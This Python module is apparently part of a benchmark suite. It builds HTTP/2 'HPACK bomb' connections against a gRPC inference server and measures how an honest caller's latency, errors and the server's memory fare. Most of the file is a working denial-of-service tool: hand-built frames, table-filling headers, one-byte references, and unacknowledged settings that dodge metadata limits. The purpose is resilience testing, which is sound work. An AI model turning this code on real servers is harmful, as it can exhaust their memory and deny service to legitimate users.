"""Connections whose headers expand in HPACK ("HPACK bombs"), and an honest caller beside them.

HPACK lets a caller put a header into a table of the connection, and refer to it by one byte: a frame of 3 KB
becomes 12 MB of metadata, or 16,000 objects, before a token is looked at.
"""

import asyncio
import struct
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Any

import psutil

from benchmarks.generator import background
from polyhead_proto import RPCS
from polyhead_proto.wire import write_varint

RENEWED_SECONDS = 0.5
"""How long a hostile connection lasts."""
PAUSE_SECONDS = 0.05
"""Between honest calls, and between looks at the server's memory."""
_CONNECTING_SECONDS = 5.0
"""For a server to say its settings, and again to take what is sent."""
_USUAL_STREAMS = 99
"""On a connection whose server says no number, or more."""

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _SETTINGS = 1, 4
_ACK, _END_HEADERS = 1, 4
_MAX_CONCURRENT_STREAMS = 3
"""A frame's kinds and flags, and the name of a setting (RFC 9113)."""
_INDEXED, _INDEXING, _FIRST_IN_TABLE = 0x80, 0x40, 62
"""A reference, a header that goes into the table, and where in the table it is (RFC 7541)."""


@dataclass(frozen=True, kw_only=True)
class Bomb:
    """A header, and how often each call refers to it."""

    value_bytes: int
    references: int
    """A byte each: with the other headers, they must fit into a frame of 16,384."""

    def __str__(self) -> str:
        return f"{self.references:,} headers of {self.value_bytes:,} B"


LARGE = Bomb(value_bytes=4_000, references=3_000)
"""A header that nearly fills the table."""
MANY = Bomb(value_bytes=1, references=16_000)
"""As many headers as fit into a frame."""


@dataclass(frozen=True, kw_only=True)
class AttackOutcome:
    """What an attack did."""

    hostile_calls: int
    honest_calls: int
    failed: list[str]
    """Errors of those honest calls that failed."""
    longest_seconds: float
    """Of an honest call."""
    grown_mib: float
    """By how much the server's resident memory grew, at most."""


class HostileConnections:
    """Connections that each open as many calls as they may, and are renewed.

    They do not acknowledge the server's settings: gRPC's core limits metadata only from then on.

    Args:
        address: The server's, or a proxy's, without TLS.
        count: How many there are at a time.
        bomb: What each call carries.
        lasting: Return when a connection that has sent everything may be renewed.
    """

    def __init__(
        self, address: str, *, count: int, bomb: Bomb, lasting: Callable[[], Awaitable[None]]
    ) -> None:
        self.calls = 0
        """Calls that were opened."""
        self._host, _, self._port = address.rpartition(":")
        self._count = count
        self._lasting = lasting
        self._first, self._further = _header_blocks(address, bomb)

    async def run(self) -> None:
        """Attack until cancelled."""
        async with asyncio.TaskGroup() as group:
            for _ in range(self._count):
                group.create_task(self._renewed())

    async def _renewed(self) -> None:
        while True:
            try:
                await self._connection()
            except (OSError, EOFError, TimeoutError):  # it was closed, or what was sent was not taken
                await asyncio.sleep(RENEWED_SECONDS)

    async def _connection(self) -> None:
        async with asyncio.timeout(_CONNECTING_SECONDS):
            reader, writer = await asyncio.open_connection(self._host, int(self._port))
        try:
            async with asyncio.timeout(_CONNECTING_SECONDS):
                writer.transport.set_write_buffer_limits(0)
                writer.write(_PREFACE + _frame(_SETTINGS))
                streams = await _allowed_streams(reader)
                blocks = [self._first] + [self._further] * (streams - 1)
                calls = (
                    _frame(_HEADERS, block, flags=_END_HEADERS, stream=2 * number + 1)
                    for number, block in enumerate(blocks)
                )
                writer.write(b"".join(calls))
                await writer.drain()
            self.calls += streams
            await self._lasting()
        finally:
            writer.transport.abort()


async def attack(
    address: str,
    call: Callable[[], Awaitable[Any]],
    server: psutil.Process,
    *,
    connections: int,
    bomb: Bomb,
    seconds: float = 8.0,
    waiting: bool = False,
) -> AttackOutcome:
    """Attack a server while an honest caller calls it, and again 50 ms after each answer.

    Args:
        address: The server's, or that of a proxy in front of it.
        call: An honest call. What it raises is noted.
        server: The process whose memory is looked at.
        connections: How many are hostile at a time.
        bomb: What they carry.
        seconds: How long, and until the last honest call has ended.
        waiting: Whether a connection is renewed only when an honest call has been answered that began later,
            by when the server has taken what is hostile: an attack for which a busy machine has the time.
    """
    taken: list[float] = []
    failed: list[str] = []
    answered = asyncio.Event()

    async def lasting() -> None:
        await asyncio.sleep(RENEWED_SECONDS)
        for _ in range(2 if waiting else 0):  # the second began later
            await answered.wait()

    hostile = HostileConnections(address, count=connections, bomb=bomb, lasting=lasting)
    memory = [server.memory_info().rss]

    async def look() -> None:
        while True:
            await asyncio.sleep(PAUSE_SECONDS)
            memory.append(server.memory_info().rss)

    until = time.perf_counter() + seconds
    async with background(hostile.run()), background(look()):
        while (started := time.perf_counter()) < until:
            try:
                await call()
            except Exception as error:
                failed.append(repr(error))
            answered.set()
            answered = asyncio.Event()
            taken.append(time.perf_counter() - started)
            await asyncio.sleep(PAUSE_SECONDS)
    return AttackOutcome(
        hostile_calls=hostile.calls,
        honest_calls=len(taken),
        failed=failed,
        longest_seconds=max(taken),
        grown_mib=(max(memory) - memory[0]) / 2**20,
    )


async def _allowed_streams(reader: asyncio.StreamReader) -> int:
    """Return how many calls the server's settings allow on this connection."""
    while True:
        head = await reader.readexactly(9)
        content = await reader.readexactly(int.from_bytes(head[:3], "big"))
        if head[3] == _SETTINGS and not head[4] & _ACK:
            settings: dict[int, int] = dict(struct.iter_unpack(">HI", content))
            return min(_USUAL_STREAMS, settings.get(_MAX_CONCURRENT_STREAMS, _USUAL_STREAMS))


def _header_blocks(address: str, bomb: Bomb) -> tuple[bytes, bytes]:
    """Return the headers of a connection's first call, which fills the table, and those of its others."""
    headers = {
        ":method": "POST",
        ":scheme": "http",
        ":path": RPCS["ModelInfer"].path,
        ":authority": address,
        "te": "trailers",
        "content-type": "application/grpc",
    }
    usual = b"".join(b"\0" + _text(name) + _text(value) for name, value in headers.items())
    entry = bytes([_INDEXING]) + _text("x") + _text("x" * bomb.value_bytes)
    return usual + entry, usual + bytes([_INDEXED | _FIRST_IN_TABLE]) * bomb.references


def _text(text: str) -> bytes:
    """Return a text of HPACK, not compressed: its length, 7 bits in the first byte, and its characters."""
    length = len(text)
    written = bytes([length]) if length < 0x7F else b"\x7f" + write_varint(length - 0x7F)
    return written + text.encode()


def _frame(kind: int, content: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content
